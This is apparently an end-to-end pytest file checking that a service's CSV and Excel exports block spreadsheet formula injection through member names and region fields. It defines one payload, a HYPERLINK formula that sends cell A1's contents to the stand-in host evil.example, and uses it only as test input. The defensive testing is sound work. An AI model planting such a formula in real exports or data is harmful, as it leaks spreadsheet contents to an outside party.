"""CSV injection: what a client can put in front of a spreadsheet (a member's name in the chairs'
directory, a region) never reaches it as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from niangjia_projections.exports import FORMULA_STARTS as FORMULA_TRIGGERS
from openpyxl import load_workbook

from tests.hostile.conftest import WUJIN, Stack, federation

pytestmark = pytest.mark.e2e

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def test_a_region_that_is_a_formula_is_refused_and_records_nothing(stack: Stack) -> None:
    before = stack.events()
    answer = stack.call("orgs", "POST", "/federations", "recorder", json=federation("h-csv", PAYLOAD))
    assert (answer.status_code, answer.json()["error"]["code"]) == (422, "invalid_request")
    assert stack.events() == before


def test_the_audit_csv_holds_no_cell_a_spreadsheet_would_evaluate(stack: Stack) -> None:
    stack.caught_up()
    answer = stack.call("projections", "GET", "/audit/log", "auditor", params={"format": "csv"})
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert len(rows) > 1
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_TRIGGERS)] == []


def test_a_name_that_is_a_formula_stays_text_in_the_directory_workbook(stack: Stack) -> None:
    chair = {
        "member_id": "h-chair",
        "federation_id": "wj-park",
        "role": "chair",
        "appointed_on": "2024-01-01",
        "personal": {"name": PAYLOAD, "mobile": "+8613800000000"},
    }
    appointed = stack.call("orgs", "POST", "/members", "wujin_recorder", json=chair)
    assert appointed.status_code == 201, appointed.text
    stack.caught_up()
    answer = stack.call("projections", "GET", "/members/directory.xlsx", "admin", params={"region": WUJIN})
    assert answer.status_code == 200, answer.text
    book = load_workbook(io.BytesIO(answer.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert PAYLOAD in [cell.value for cell in cells]  # the name, as given
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
